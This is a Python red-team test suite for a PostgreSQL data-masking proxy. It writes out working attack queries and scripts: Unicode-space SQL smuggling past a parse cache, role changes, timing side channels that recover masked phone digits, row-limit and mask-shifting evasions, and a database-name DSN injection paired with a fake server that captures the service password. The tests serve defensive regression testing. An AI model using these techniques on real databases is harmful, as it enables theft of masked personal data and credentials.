"""Red team, third round: security model v2 (database roles, schema-qualified rendering, shape
cache, settings tracking, constant concealment, volatility, diagnostics catalogs, audit ahead).

Same attacker as tests/integration/test_redteam.py: `vendor_zhang` of policies/examples/demo.yaml
(select only, mobile / id_card / person_name masked, bank_card denied, no predicates on masked
classes, `branch_id = 12` on customers, 200 rows, no audit_trail, runs upstream as crm_vendor),
and `desk_li` (service_desk, select + update, runs upstream as crm_desk via SET ROLE). Every test
asserts the SECURE behaviour. A test marked `xfail(strict=True, reason="LEAK: ...")` is a leak
confirmed today against the real proxy in front of a real PostgreSQL: it fails because the data
gets out (or the identity changes). Remove the marker once the proxy is fixed.
"""

from __future__ import annotations

import contextlib
import json
import re
import shutil
import socket
import struct
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from prometheus_client import CollectorRegistry

from proxy.app import App
from proxy.config import load_config
from proxy.demo.embedded_pg import EmbeddedPostgres, free_port
from proxy.pg import messages as m
from tests.conftest import CRM_VENDOR_PASSWORD, start_crm
from tests.integration.harness import DEMO_POLICY, Running, serve_demo
from tests.integration.test_redteam import Wire, leaked, rows

SVC_PW = "svc-secret-redteam-v3"
VENDOR = ("vendor_zhang", "vendor-pass")
DESK = ("desk_li", "desk-pass")
DBA = ("dba_wang", "dba-pass")


# ---------------------------------------------------------------------------------------------
# Fixtures: one cluster, one App, ground truth read directly from PostgreSQL
# ---------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def crm(tmp_path_factory: pytest.TempPathFactory) -> Iterator[EmbeddedPostgres]:
    pg = start_crm(tmp_path_factory.mktemp("pg-redteam-v3"), SVC_PW, 400)
    try:
        yield pg
    finally:
        pg.destroy()


@pytest.fixture(scope="module")
def served(crm: EmbeddedPostgres, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    with serve_demo(tmp_path_factory.mktemp("redteam-v3"), crm, SVC_PW) as s:
        yield s


@pytest.fixture(scope="module")
def truth(crm: EmbeddedPostgres) -> dict[str, Any]:
    """The secrets, read as the service account straight from PostgreSQL (never via the proxy)."""
    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
        cust = c.execute(
            "SELECT id, name, phone, id_card, bank_card, branch_id FROM customers ORDER BY id"
        ).fetchall()
    secrets: set[str] = set()
    for r in cust:
        secrets.update(x for x in r[2:5] if x)
    return {
        "secrets": secrets,
        "names": {r[1] for r in cust},
        "cards": {r[4] for r in cust if r[4]},
        "other_branches": {r[0] for r in cust if r[5] != 12},
    }


def connect(served: dict[str, Any], who: tuple[str, str] = VENDOR, **kw: Any) -> psycopg.Connection[Any]:
    kw.setdefault("autocommit", True)
    return psycopg.connect(
        host="127.0.0.1",
        port=served["port"],
        user=who[0],
        password=who[1],
        dbname="crm",
        sslmode="disable",
        **kw,
    )


def wire_as(served: dict[str, Any], who: tuple[str, str] = VENDOR) -> Wire:
    import tests.integration.test_redteam as base

    saved = base.VENDOR
    base.VENDOR = who
    try:
        return Wire(served["port"])
    finally:
        base.VENDOR = saved


@pytest.fixture()
def wire(served: dict[str, Any]) -> Iterator[Wire]:
    w = wire_as(served)
    try:
        yield w
    finally:
        w.close()


def _decoded(out: list[tuple[Any, ...]]) -> list[list[str | None]]:
    return [[None if v is None else bytes(v).decode() for v in r] for r in rows(out)]


# ---------------------------------------------------------------------------------------------
# 1. The shape cache reuses a decision without the lexical checks of the full parse
# ---------------------------------------------------------------------------------------------
#
# policies/engine.py keys a statement's shape by sqlglot's tokens (types and texts, comments,
# the literal slots taken out), not by the characters between tokens. Once two statements of a
# shape got the same decision, a third one of the same shape is decided from the cache: it is
# never parsed, so `_same_words_as_the_server` (policies/sql/parser.py), which refuses U+3000
# between words, never sees it. A shape whose statement names no relation and has its own
# LIMIT <= max_rows is not rewritten: the client's text goes upstream as written.
#
# `SELECT interval $$<body>$$ WHERE 1 = 1 LIMIT 1` is, to sqlglot, an interval literal: allowed,
# no relation, sent as written. With U+3000 (the ideographic space) instead of the space before
# `$$`, PostgreSQL reads `interval　$$` as one identifier and <body> as SQL; the shape (and so
# the cached decision) is the same. <body> names its table alias with a Unicode escape so it
# holds no `$$`; it ends in `--`, which comments out the closing `$$`, the WHERE and the LIMIT.

ALIAS = r'U&"interval\3000\0024\0024"'  # the identifier `interval<U+3000>$$`


def _smuggle(w: Wire, body: str, n: int) -> list[tuple[Any, ...]]:
    """Teach the shape with two harmless statements, then send the one the server reads apart."""
    for lit in (n, n + 1):
        w.query(f"SELECT interval $${body}$$ WHERE {lit} = {lit} LIMIT 1")
    return w.query(f"SELECT interval\u3000$${body}$$ WHERE {n + 2} = {n + 2} LIMIT 1")


def test_shape_cache_hit_skips_the_lexer_check_and_reads_clear_numbers(
    wire: Wire, truth: dict[str, Any]
) -> None:
    body = (
        f".phone::bigint, {ALIAS}.id_card::numeric, {ALIAS}.bank_card::numeric, {ALIAS}.branch_id "
        f"FROM customers AS {ALIAS} --"
    )
    out = _smuggle(wire, body, 101)
    got = _decoded(out)
    assert not leaked(truth["secrets"], got), "full phones / id cards / denied bank cards"


def test_shape_cache_smuggled_reset_role_changes_who_the_session_is(served: dict[str, Any]) -> None:
    w = wire_as(served, DESK)
    try:
        body = f".x FROM (SELECT 1 AS x) AS {ALIAS}; RESET ROLE; SELECT count(*)::text FROM audit_trail --"
        _smuggle(w, body, 201)
        out = w.query("SELECT current_user::text, session_user::text")
        current = _decoded(out)
    finally:
        w.close()
    assert current == [["crm_desk", "maskgate_svc"]], current


# ---------------------------------------------------------------------------------------------
# 2. application_name: the prefix is put back only at ReadyForQuery
# ---------------------------------------------------------------------------------------------
#
# A session may rename itself; the proxy restores `maskgate:<user>/…` with its own SET once the
# server reports the change and nothing is in flight (proxy/pg/relay.py `_rename_back`, called
# from ReadyForQuery). In the extended protocol nothing forces a Sync: until the client sends
# one, the backend carries whatever name it chose, e.g. the DBA's. desk_li runs upstream as
# session user maskgate_svc, exactly like the DBA, so pg_stat_activity (and the server log's %a
# / %u) attribute its statements to dba_wang.


def test_application_name_can_impersonate_another_person_until_sync(
    served: dict[str, Any], crm: EmbeddedPostgres
) -> None:
    w = wire_as(served, DESK)
    try:
        (pid,) = [int(v) for r in rows(w.query("SELECT pg_backend_pid()")) for v in r if v is not None]
        w.s.sendall(
            b"".join(
                x.serialize()
                for x in (
                    m.Parse("", "SET application_name = 'maskgate:dba_wang/psql'"),
                    m.Bind("", ""),
                    m.Execute(""),
                    m.Parse("", "UPDATE customers SET email = email WHERE id = 1"),
                    m.Bind("", ""),
                    m.Execute(""),
                    m.Flush(),  # no Sync: no ReadyForQuery, so no rename back
                )
            )
        )
        time.sleep(0.5)
        seen = crm.psql(f"SELECT usename || '|' || application_name FROM pg_stat_activity WHERE pid = {pid}")
        w.run(m.Sync())
    finally:
        w.close()
    assert seen.strip().endswith("maskgate:desk_li") or "maskgate:desk_li/" in seen, seen


# ---------------------------------------------------------------------------------------------
# 3. Total functions are not constant-time: replace() amplifies one digit into megabytes
# ---------------------------------------------------------------------------------------------
#
# Under masked_predicates: deny a masked value may pass only through "total" functions
# (policies/sql/dialects.py TOTAL_FUNCTIONS), because "computing it reveals nothing either", and
# the result is one constant. But replace() is total and its cost depends on the value: nested
# replace(substr(phone, p, 1), 'd', 'xxxxxxxxxx') → 'x' → 10 x's … grows to 10**7 characters
# only when the digit at p is d, and md5() (total too) then hashes 10 MB. The answer is `****`
# either way; the time is ~40 ms against ~0.5 ms. Ten guesses per position give the four digits
# the mask hides.


def _amplified(pos: int, digit: int, levels: int = 7) -> str:
    e = f"replace(substr(phone, {pos}, 1), '{digit}', 'xxxxxxxxxx')"
    for _ in range(levels - 1):
        e = f"replace({e}, 'x', 'xxxxxxxxxx')"
    return f"md5({e})"


def test_total_functions_time_reveals_the_hidden_digits(
    served: dict[str, Any], crm: EmbeddedPostgres
) -> None:
    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
        target, phone = c.execute(
            "SELECT id, phone FROM customers WHERE branch_id = 12 ORDER BY id LIMIT 1"
        ).fetchone()
    guessed = ""
    with connect(served) as c:
        try:
            c.execute(f"SELECT {_amplified(4, 0)} FROM customers WHERE id = {target}").fetchall()
        except psycopg.errors.InsufficientPrivilege:
            return  # refused: a replace() that grows the value is no total function any more
        for pos in range(4, 8):  # 195****7668: the four digits the mask hides
            took = {}
            for d in range(10):
                t = time.perf_counter()
                got = c.execute(f"SELECT {_amplified(pos, d)} FROM customers WHERE id = {target}").fetchall()
                took[d] = time.perf_counter() - t
                assert got == [("****",)]  # the value itself is concealed...
            guessed += str(max(took, key=took.__getitem__))
    assert guessed != phone[3:7], f"...yet the timing spells the hidden digits: {guessed}"


# ---------------------------------------------------------------------------------------------
# 4. The row budget counts collection functions, not records placed side by side
# ---------------------------------------------------------------------------------------------
#
# "max_rows counts records, not result rows" (docs/behaviour.md, Row limits): collection
# aggregates, ARRAY(subquery) and accumulating recursive queries are refused for that reason
# (policies/decide.py `_row_budget`). But one result row can carry several records without any
# of them: one correlated scalar subquery per column, or a self-join on shifted keys. 200 rows
# of five such columns are 1,000 records: here the whole 800-row call_records table at once.

SIDE_BY_SIDE = {
    "scalar-subqueries": "SELECT "
    + ", ".join(f"(SELECT r.id FROM call_records r WHERE r.id = g * 5 + {k})" for k in range(5))
    + " FROM generate_series(0, 999) g",
    "self-join": "SELECT a.id, b.id, c.id, d.id FROM call_records a "
    "JOIN call_records b ON b.id = a.id + 200 JOIN call_records c ON c.id = a.id + 400 "
    "JOIN call_records d ON d.id = a.id + 600",
}


@pytest.mark.parametrize("sql", list(SIDE_BY_SIDE.values()), ids=list(SIDE_BY_SIDE))
def test_records_side_by_side_escape_the_row_budget(served: dict[str, Any], sql: str) -> None:
    with connect(served) as c:
        got = c.execute(sql).fetchall()
    records = {v for r in got for v in r if v is not None}
    assert len(got) <= 200
    assert len(records) <= 200, f"{len(records)} distinct records in {len(got)} rows"


# ---------------------------------------------------------------------------------------------
# 5. "result shape unknown" is allowed, and a column without a mask goes out clear
# ---------------------------------------------------------------------------------------------
#
# When a `*` covers a source whose columns the analysis cannot list (unnest(…) without a column
# alias, json_each(…), set-returning catalog functions, a catalog relation next to a user
# table), policies/sql/analysis.py gives the query no outputs; policies/decide.py allows it with
# the note "result shape unknown" and no ColumnMask at all; the relay then treats every column
# as unclassified (proxy/services/rows.py column_action: clear, or detectors for text). The
# classified columns of the subquery the `*` also covers come back as the database returns
# them: names in full, and phones / id cards in any form the detectors do not recognise.

UNKNOWN_SHAPE = [
    "unnest(ARRAY[1]) u",
    "json_each('{\"a\": 1}') j",
    "pg_get_keywords() k WHERE k.word = 'select'",
    "pg_catalog.pg_class c WHERE c.relname = 'pg_class'",
]


@pytest.mark.parametrize("other", UNKNOWN_SHAPE)
def test_star_over_a_source_of_unknown_shape_passes_classified_columns_clear(
    served: dict[str, Any], truth: dict[str, Any], other: str
) -> None:
    tr = "'0123456789', 'abcdefghij'"
    sql = (
        f"SELECT * FROM (SELECT id, name, translate(phone, {tr}) AS p, translate(id_card, {tr}) AS i "
        f"FROM customers) s, {other}"
    )
    with connect(served) as c:
        try:
            got = c.execute(sql).fetchall()
        except psycopg.errors.InsufficientPrivilege:
            return  # refused: which column is which cannot be told
    assert got
    names = {r[1] for r in got} & truth["names"]
    numbers = leaked(truth["secrets"], [[v for v in r[2:4]] for r in got])
    assert not names and not numbers, (sorted(names)[:3], sorted(numbers)[:3])


# ---------------------------------------------------------------------------------------------
# 6. A column alias list shorter than its source: the analysis counts the names, the server
#    keeps the rest, and every later column's mask lands one place too early
# ---------------------------------------------------------------------------------------------
#
# `(VALUES (1, 2)) AS v(a)` has two columns for PostgreSQL (a, column2); the analysis lists one.
# So do `unnest(a1, a2) AS u(a)`, `… WITH ORDINALITY AS g(a)`, `json_each(…) AS j(k)` and
# `pg_get_keywords() AS k(w)`. The decision's masks are matched to the RowDescription by
# position (proxy/pg/rowmask.py plan_rows): after such a source, each mask applies to the column
# before the one it was meant for, and the last columns get none (clear, or detectors only).

SHORT_ALIAS = [
    "(VALUES (1, 2)) AS v(a)",
    "unnest(ARRAY[1], ARRAY[2]) AS u(a)",
    "generate_series(1, 1) WITH ORDINALITY AS g(a)",
    "json_each('{\"a\": 1}') AS j(k)",
    "pg_get_keywords() AS k(w)",
]


@pytest.mark.parametrize("other", SHORT_ALIAS)
def test_short_column_alias_list_shifts_the_masks(
    served: dict[str, Any], truth: dict[str, Any], other: str
) -> None:
    tr = "'0123456789', 'abcdefghij'"
    sql = f"SELECT * FROM {other}, (SELECT id, translate(id_card, {tr}) AS i, name FROM customers) s"
    with connect(served) as c:
        try:
            got = c.execute(sql).fetchall()
        except psycopg.errors.InsufficientPrivilege:
            return  # refused: the result's columns are not the ones decided
    assert got
    names = {r[-1] for r in got} & truth["names"]
    numbers = leaked(truth["secrets"], [r[-2] for r in got])
    assert not names and not numbers, (sorted(names)[:3], sorted(numbers)[:3])


# ---------------------------------------------------------------------------------------------
# 7. The database a client names is pasted, unquoted, into the schema loader's DSN
# ---------------------------------------------------------------------------------------------
#
# After the person's login, the session connects upstream with the database the client named
# and, in parallel, the guard loads that database's schema (proxy/core/driver.py
# `_open_upstream` → guard.prepare → catalog.SchemaLoader(pg.dsn)). `Upstream.dsn`
# (proxy/config.py) builds `postgresql://svc:PASSWORD@host:port/{database}` without quoting the
# name, so a database named `crm?host=ATTACKER&port=N&sslmode=disable` makes libpq connect the
# service account to the attacker, who asks for a cleartext password and gets it. (With query
# parameters in the configured upstream URL, `?sslmode=…` is appended after the name and libpq
# rejects the URL; config.md documents `sslmode` as optional.)


def _steal_password(timeout: float = 15) -> tuple[int, dict[str, bytes], threading.Thread]:
    got: dict[str, bytes] = {}
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    srv.settimeout(timeout)

    def fake_postgres() -> None:
        try:
            c, _ = srv.accept()
        except OSError:
            return
        with c, srv:
            c.settimeout(5)
            (n,) = struct.unpack("!i", c.recv(4))
            c.recv(n - 4)  # the startup packet
            c.sendall(b"R" + struct.pack("!ii", 8, 3))  # AuthenticationCleartextPassword
            c.recv(1)
            (n,) = struct.unpack("!i", c.recv(4))
            got["password"] = c.recv(n - 4).rstrip(b"\0")

    t = threading.Thread(target=fake_postgres, daemon=True)
    t.start()
    return srv.getsockname()[1], got, t


def test_database_name_redirects_the_schema_loader_and_leaks_the_service_password(
    crm: EmbeddedPostgres, tmp_path: Path
) -> None:
    d = tmp_path / "noparams"
    (d / "policy").mkdir(parents=True)
    shutil.copy(DEMO_POLICY, d / "policy" / "policy.yaml")
    port, mport = free_port(), free_port()
    (d / "maskgate.yaml").write_text(
        f"policy: policy\nmetrics: 127.0.0.1:{mport}\npostgres:\n  listen: 127.0.0.1:{port}\n"
        f"  upstream: postgresql://maskgate_svc:${{T_UPSTREAM}}@127.0.0.1:{crm.port}/crm\n"
        '  database_roles: {crm_vendor: "${T_VENDOR}"}\n'
    )
    config = load_config(d / "maskgate.yaml", env={"T_UPSTREAM": SVC_PW, "T_VENDOR": CRM_VENDOR_PASSWORD})
    running = Running(App(config, registry=CollectorRegistry()))
    try:
        fport, got, t = _steal_password()
        with contextlib.suppress(psycopg.Error):
            psycopg.connect(
                host="127.0.0.1",
                port=port,
                user=VENDOR[0],
                password=VENDOR[1],
                dbname=f"crm?host=127.0.0.1&port={fport}&sslmode=disable",
                sslmode="disable",
                connect_timeout=10,
            ).close()
        t.join(15)
    finally:
        running.stop()
    assert SVC_PW.encode() not in got.get("password", b""), got


# ---------------------------------------------------------------------------------------------
# 8. Row filters skip a table inside a parenthesized join that is itself parenthesized
# ---------------------------------------------------------------------------------------------
#
# The v2 fix wraps a filtered table whose parent is a parenthesized join (`(t JOIN u …)`), but
# not one nested a level deeper: `((t CROSS JOIN x) CROSS JOIN y)` and `((t CROSS JOIN x))` go
# upstream without the filter (policies/rewrite.py apply_row_filters). For customers the
# database's row-level security still keeps branch 12; pg_stats has no such backstop: its
# statistics filter (policies/decide.py `_with_statistics_filter`, the only thing keeping the
# value lists of masked and denied columns from a restricted role) is skipped the same way, and
# call_records' most common callers and notes, bank card numbers included, come out.


def test_nested_parenthesized_join_escapes_the_statistics_filter(
    served: dict[str, Any], crm: EmbeddedPostgres
) -> None:
    crm.psql("ANALYZE call_records", "crm")
    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
        callers = {r[0] for r in c.execute("SELECT caller FROM call_records").fetchall()}
        notes = [r[0] for r in c.execute("SELECT notes FROM call_records").fetchall() if r[0]]
    secrets = callers | {x for n in notes for x in re.findall(r"\d{11,19}", n)}
    tr = "'0123456789', 'abcdefghij'"
    with connect(served) as c:
        got = c.execute(
            f"SELECT s.attname, translate(s.most_common_vals::text, {tr}), "
            f"translate(s.histogram_bounds::text, {tr}) "
            "FROM ((pg_stats s CROSS JOIN (SELECT 1) x) CROSS JOIN (SELECT 2) y) "
            "WHERE s.tablename = 'call_records' AND s.attname IN ('caller', 'notes')"
        ).fetchall()
    assert not leaked(secrets, got), sorted(leaked(secrets, got))[:3]


# ---------------------------------------------------------------------------------------------
# 9. Audit: a fast-path function call is recorded without saying which function ran
# ---------------------------------------------------------------------------------------------
#
# The FunctionCall message is refused for restricted roles, but an unrestricted one (the DBA)
# may send it; proxy/pg/relay.py `_on_function_call` records it as the fixed text
# `<fast-path function call>`, without the function's OID or its arguments. Whatever it called
# (lo_export, pg_read_file, a function running SQL of its own, here md5), the audit log cannot
# tell.


def test_fast_path_call_audit_names_the_function(served: dict[str, Any], crm: EmbeddedPostgres) -> None:
    with psycopg.connect(crm.dsn("maskgate_svc", SVC_PW, "crm")) as c:
        oid = c.execute("SELECT 'pg_catalog.md5(text)'::regprocedure::oid").fetchone()[0]
    # letters only: the audit log masks what the detectors find, and long digit runs may be cards
    marker = "fastpath" + str(time.time_ns()).translate(str.maketrans("0123456789", "abcdefghij"))
    w = wire_as(served, DBA)
    try:
        out = w.run(m.FunctionCall(oid, (0,), (marker.encode(),), 0))
        assert ("V",) in out
        w.query(f"SELECT '{marker}-probe'")
    finally:
        w.close()
    audit = served["dir"] / "audit.jsonl"
    deadline = time.time() + 5
    while time.time() < deadline and f"{marker}-probe" not in audit.read_text():
        time.sleep(0.05)
    calls = [
        r
        for r in map(json.loads, audit.read_text().splitlines())
        if r.get("user") == DBA[0] and r.get("kind") == "function_call" and r.get("event") == "start"
    ]
    assert calls
    assert any(str(oid) in r["sql"] or "md5" in r["sql"] for r in calls), calls[-1]["sql"]
